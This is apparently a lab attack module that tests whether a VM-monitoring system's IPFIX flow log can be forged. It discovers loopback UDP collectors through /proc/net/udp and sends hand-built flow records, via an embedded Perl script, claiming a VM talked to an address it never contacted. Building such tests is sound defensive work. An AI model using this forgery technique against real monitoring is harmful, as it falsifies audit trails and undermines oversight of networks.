import { ELEMENT, encodeMessage, type FieldSpec, type FieldValue } from '@hypervigil/ipfix';
import { SYNTHETIC_RULES } from '@hypervigil/model';
import type { Attack } from '../src/attack.ts';
import { LabError } from '../src/errors.ts';
import type { Lab } from '../src/lab.ts';
import { runInHostOk } from '../src/spawn.ts';
import { addressOf } from '../src/vm/spec.ts';
import { hostOf } from '../src/vm/vm.ts';
import { waitFor } from '../src/wait.ts';

/** An address for documents (RFC 5737): with this machine the victim shall have talked. */
const BAD_COMPANY = '203.0.113.99';
const PORTS = { forged: 6667, honest: 6668 };
/** As packets of an allowed connection are told (core/pipeline, observation.ts): `HV`, and no bit of the lower half. */
const DOMAIN = 0x4856_0000;
const NOBODY = 65_534;

/** Frames of a message as hex on standard input, to every one of these ports of loopback, three times. */
const SEND = `my @messages = map { pack 'H*', s/\\s//gr } <STDIN>;
use Socket;
for my $port (@ARGV) {
  socket my $socket, AF_INET, SOCK_DGRAM, 0 or die;
  connect $socket, pack_sockaddr_in($port, INADDR_LOOPBACK) or die;
  for (1 .. 3) { send $socket, $_, 0 for @messages; select undef, undef, undef, 0.3 }
}`;

export const forgedFlowLog: Attack = {
  id: 'forged-flow-log',
  title: 'A program that escaped from its VM writes into the flow log what a VM never did',
  protects: 'only the switch tells of flows',
  needsPolicy: true,
  async run({ lab, cast: { victim }, policy }) {
    if (!policy) throw new LabError('LAB_USAGE', 'The attack forged-flow-log needs a flow log');
    const host = await hostOf(lab, victim.name);
    const log = await policy.flowLog(host);
    const flow = (port: number) => ({ from: addressOf(victim.ipv4), to: BAD_COMPANY, port });
    try {
      const collectors = await loopbackListeners(lab, host);
      const say = (uid: number, port: number) =>
        runInHostOk(
          lab,
          host,
          [
            ...['setpriv', `--reuid=${uid}`, `--regid=${uid}`, '--clear-groups', '--inh-caps=-all', '--'],
            ...['perl', '-e', SEND, ...collectors],
          ],
          { input: flowMessage(flow(port).from, victim.mac, port).toString('hex') },
        );
      await say(NOBODY, PORTS.forged);
      // As the switch's own user sends it, which whoever is root here can do: it comes after the forged one.
      await say(0, PORTS.honest);
      const control = await waitFor('the honest record is in the flow log', () => log.has(flow(PORTS.honest)), {
        timeoutMs: 60_000,
        everyMs: 200,
      }).catch(() => false);
      const succeeded = await log.has(flow(PORTS.forged));
      const verb = succeeded ? 'says' : 'does not say';
      const evidence = `the flow log ${verb} that ${victim.name} talked to ${BAD_COMPANY}, which it never did`;
      return { succeeded, control, evidence };
    } finally {
      await log.close();
    }
  },
};

/** Ports of UDP sockets of the host that wait on 127.0.0.1, as everybody there can see them (proc(5)). */
async function loopbackListeners(lab: Lab, host: string): Promise<string[]> {
  const table = await runInHostOk(lab, host, ['cat', '/proc/net/udp']);
  return [...table.matchAll(/ 0100007F:([0-9A-F]{4}) 00000000:0000 /g)].map(([, port]) =>
    String(Number.parseInt(port!, 16)),
  );
}

/** One connection of one packet, template and record in one message (RFC 7011). */
function flowMessage(source: string, mac: string, port: number): Buffer {
  const octets = (address: string) => Uint8Array.from(address.split('.').map(Number));
  const at = BigInt(Date.now());
  const values: readonly (readonly [element: number, length: number, value: FieldValue])[] = [
    [ELEMENT.observationPointId, 4, SYNTHETIC_RULES['same-tenant']],
    [ELEMENT.ipVersion, 1, 4],
    [ELEMENT.protocolIdentifier, 1, 6],
    [ELEMENT.sourceIPv4Address, 4, octets(source)],
    [ELEMENT.destinationIPv4Address, 4, octets(BAD_COMPANY)],
    [ELEMENT.sourceTransportPort, 2, 40_000],
    [ELEMENT.destinationTransportPort, 2, port],
    [ELEMENT.sourceMacAddress, 6, Uint8Array.from(Buffer.from(mac.replaceAll(':', ''), 'hex'))],
    [ELEMENT.destinationMacAddress, 6, new Uint8Array(6)],
    [ELEMENT.octetDeltaCount, 8, 60n],
    [ELEMENT.packetDeltaCount, 8, 1n],
    [ELEMENT.flowStartMilliseconds, 8, at],
    [ELEMENT.flowEndMilliseconds, 8, at],
  ];
  const fields = values.map(([id, length]): FieldSpec => ({ id, length, enterprise: 0 }));
  const template = { id: 256, fields };
  return encodeMessage({
    version: 10,
    exportMs: Number(at),
    sequence: 0,
    domain: DOMAIN,
    sets: [
      { kind: 'templates', templates: [template] },
      { kind: 'data', template, records: [values.map(([, , value]) => value)] },
    ],
  });
}
